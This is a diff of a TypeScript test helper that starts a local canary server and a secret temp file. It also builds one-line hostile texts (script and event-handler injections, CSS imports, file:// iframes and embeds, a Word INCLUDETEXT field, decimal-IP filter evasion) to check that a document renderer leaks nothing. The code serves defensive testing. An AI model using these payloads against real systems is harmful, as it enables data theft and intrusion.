@@ -4,18 +4,19 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { openNetworkListener } from './network-listener.ts';
 
-/** A server that nobody may reach and a file that nobody may read, with texts that lead there: for tests. */
+/** A server that no document may contact and a file that no document may contain, with hostile texts that try. */
 export type Canary = {
-  /** Connections and datagrams that came. */
+  /** Number of connections and datagrams received. */
   contacts: number;
-  /** Where it listens: one port of each of these hosts. */
+  /** The hosts on which it listens, all with the same port. */
   hosts: string[];
   port: number;
-  /** What the file holds. */
+  file: string;
+  /** The content of the file. */
   secret: string;
-  /** Every way in which a text could make a program do something; each is one line. */
+  /** Hostile texts, one for each technique. Each is a single line. */
   payloads: string[];
-  /** Addresses that a link may have, and that nobody may fetch. */
+  /** Valid link addresses of the server, which no document may request. */
   addresses: string[];
   close(): Promise<void>;
 };
@@ -25,16 +26,17 @@ export async function openCanary(): Promise<Canary> {
   const secret = `canary-${randomUUID()}`;
   const file = join(folder, 'secret.txt');
   await writeFile(file, secret);
-  const ear = await openNetworkListener(() => {
+  const listener = await openNetworkListener(() => {
     canary.contacts += 1;
   });
-  const { hosts, port } = ear;
+  const { hosts, port } = listener;
   const canary: Canary = {
     contacts: 0,
     hosts,
     port,
+    file,
     secret,
-    payloads: payloadsTo(`127.0.0.1:${port}`, `2130706433:${port}`, file),
+    payloads: hostileTexts(`127.0.0.1:${port}`, `2130706433:${port}`, file),
     addresses: [
       `http://127.0.0.1:${port}/page`,
       `http://2130706433:${port}/redirect`,
@@ -44,22 +46,23 @@ export async function openCanary(): Promise<Canary> {
       `http://canary.localhost:${port}/name`,
     ],
     close: async () => {
-      await ear.close();
+      await listener.close();
       await rm(folder, { recursive: true, force: true });
     },
   };
   return canary;
 }
 
-function payloadsTo(host: string, decimal: string, file: string): string[] {
+/** `decimalHost` is the address as a single number, which some filters do not recognize. */
+function hostileTexts(host: string, decimalHost: string, file: string): string[] {
   const port = host.split(':').at(-1);
   const field = (code: string) => `\u0013 ${code} \u0014shown\u0015`;
   return [
     `<script src="http://${host}/s.js"></script><script>fetch("http://${host}/f")</script>`,
-    `"><img src=x onerror="new Image().src='http://${host}/e'"><svg onload="fetch('http://${decimal}/svg')"><image href="http://${host}/i"/></svg>`,
+    `"><img src=x onerror="new Image().src='http://${host}/e'"><svg onload="fetch('http://${decimalHost}/svg')"><image href="http://${host}/i"/></svg>`,
     `</style><style>@import url(http://${host}/c.css); body{background:url(file://${file})}</style>`,
-    `"; } @font-face { font-family: x; src: url("http://${decimal}/font") } \\"`,
-    `<iframe src="file://${file}"></iframe><link rel="prefetch" href="http://${decimal}/redirect"><meta http-equiv="refresh" content="0;url=http://${host}/m">`,
+    `"; } @font-face { font-family: x; src: url("http://${decimalHost}/font") } \\"`,
+    `<iframe src="file://${file}"></iframe><link rel="prefetch" href="http://${decimalHost}/redirect"><meta http-equiv="refresh" content="0;url=http://${host}/m">`,
     `<object data="http://${host}/o"></object><embed src="file://${file}"><base href="http://${host}/">`,
     `javascript:fetch('http://${host}/j')`,
     `]]></w:t></w:r><w:fldSimple w:instr="INCLUDETEXT &quot;${file}&quot;"><w:r><w:t>&xxe;</w:t></w:r></w:fldSimple>`,
